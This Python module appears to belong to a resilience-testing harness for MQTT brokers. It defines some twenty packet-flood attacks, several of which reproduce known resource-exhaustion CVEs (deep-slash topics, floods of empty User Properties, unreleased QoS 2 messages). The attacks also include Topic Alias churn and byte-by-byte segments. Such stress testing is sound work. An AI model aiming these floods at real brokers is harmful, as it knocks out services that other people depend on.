"""Attacks by packets that come faster than they can be worked at, or that are dear in themselves."""

import itertools

from attack import attack

import packets
from packets import V5

ALIASES = 10


def flood(field, raw, hellos=None, **settings):
    """What most of these do: all attackers are connected, then send the same for ever."""
    crowd = field.crowd(hellos or field.hellos(field.attackers))
    yield
    crowd.flood(raw, **settings)
    yield


@attack(attackers=(1, 100))
def small_publishes(field):
    """The smallest PUBLISH, which nobody gets, as often as can be."""
    return flood(field, packets.publish("a"))


@attack(attackers=(1, 100))
def publishes_of_qos_1(field):
    """PUBLISHes of QoS 1 that nobody gets, each acknowledged."""
    return flood(field, b"".join(packets.publish("a", b"", 1, 1 + number) for number in range(5_000)))


@attack(attackers=(1, 100))
def large_publishes(field):
    """PUBLISHes of a megabyte that nobody gets."""
    return flood(field, packets.publish("large", bytes(min(1_000_000, field.packet_bytes - 100))))


@attack(attackers=(1, 100))
def one_identifier_of_qos_2(field):
    """The same QoS 2 message again and again, never released (CVE-2023-28366)."""
    return flood(field, packets.publish("a", b"x" * 100, 2, 1, dup=True))


@attack(attackers=(1, 100))
def deep_topics(field):
    """PUBLISHes to topics of 65,535 slashes, to subscribers of +/+/# (CVE-2019-11779)."""
    subscribe = packets.subscribe(1, [("+/+/#", 0)])
    return flood(field, packets.publish("/" * field.topic_bytes),
                 [hello + subscribe for hello in field.hellos(field.attackers)])


@attack(attackers=(1, 100))
def user_properties(field):
    """PUBLISHes full of empty User Properties, which their senders get back (CVE-2021-41039)."""
    subscribe = packets.subscribe(1, [("t", 0)], V5)
    return flood(field, publish_full_of_properties(field),
                 [hello + subscribe for hello in field.hellos(field.attackers, version=V5)])


def full_of_properties(size):
    count = size // 5
    return packets.variable(5 * count) + b"\x26\0\0\0\0" * count


def publish_full_of_properties(field):
    return packets.publish("t", version=V5, properties=full_of_properties(field.packet_bytes - 200))


@attack(attackers=(1, 20), by_address=True)
def connects_full_of_properties(field):
    """CONNECTs full of empty User Properties, over and over (CVE-2021-41039)."""
    hello = field.hello("properties", V5, properties=full_of_properties(field.packet_bytes - 200))
    yield
    field.crowd().come_and_go(itertools.repeat(hello), at_once=field.attackers)
    yield


@attack(attackers=(1, 100))
def pings(field):
    """PINGREQ as often as can be."""
    return flood(field, packets.pingreq())


@attack(attackers=(1, 100))
def pings_unread(field):
    """PINGREQ as often as can be, and no answer is read."""
    return flood(field, packets.pingreq(), reads=False)


@attack(attackers=(1, 100))
def acknowledgements_of_nothing(field):
    """PUBREC and PUBREL of messages that never were, each answered."""
    return flood(field, b"".join(packets.pubrec(number) + packets.pubrel(number) for number in range(1, 5_000)))


@attack(attackers=(1, 100))
def aliases_changed(field):
    """PUBLISHes that set each Topic Alias anew, to long topics."""
    topics = [f"{number}/{'x' * (field.topic_bytes // 70)}" for number in range(100)]
    raw = b"".join(packets.publish(topic, b"", version=V5, properties={"topic_alias": 1 + number % ALIASES})
                   for number, topic in enumerate(topics))
    return flood(field, raw, field.hellos(field.attackers, version=V5))


@attack(attackers=(1, 100))
def aliases_for_subscribers(field):
    """PUBLISHes to ever new topics, for subscribers that want 65,535 Topic Aliases."""
    subscribe = packets.subscribe(1, [("u/#", 0)], V5)
    hellos = field.hellos(field.attackers, version=V5, properties={"topic_alias_maximum": 65_535})
    return flood(field, b"".join(packets.publish(f"u/{number}", version=V5) for number in range(50_000)),
                 [hello + subscribe for hello in hellos])


@attack(attackers=(1, 100))
def too_large_for_subscribers(field):
    """PUBLISHes larger than their 50 subscribers' Maximum Packet Size, which all are dropped."""
    subscribe = packets.subscribe(1, [("t", 0)], V5)
    field.crowd([hello + subscribe for hello in field.hellos(
        50, "subscriber", version=V5, properties={"maximum_packet_size": 20})])
    return flood(field, packets.publish("t", b"x" * 30))


@attack(attackers=(1, 100))
def a_byte_a_segment(field):
    """PUBLISHes that come byte by byte."""
    crowd = field.crowd(field.hellos(field.attackers))
    crowd.piece = 1
    yield
    crowd.flood(packets.publish("a", b"x" * 100))
    yield


@attack(attackers=(1, 100), needs=("rules",))
def new_topics_for_rules(field):
    """PUBLISHes to ever new topics, with an ACL file of 1,000 patterns."""
    return flood(field, b"".join(packets.publish(f"rules/hostile0/{number}/x/part/y") for number in range(50_000)))


@attack(attackers=(1, 100), needs=("rules",))
def new_filters_for_rules(field):
    """SUBSCRIBE and UNSUBSCRIBE of ever new filters, with an ACL file of 1,000 patterns."""
    filters = [f"rules/+/{number}/+/#" for number in range(500)]
    return flood(field, b"".join(field.subscribes(filters) + field.unsubscribes(filters)))


@attack(attackers=(1, 100))
def forbidden_topics(field):
    """PUBLISHes of QoS 1 to $SYS, which are refused."""
    return flood(field, b"".join(packets.publish("$SYS/x", b"", 1, 1 + number) for number in range(5_000)))
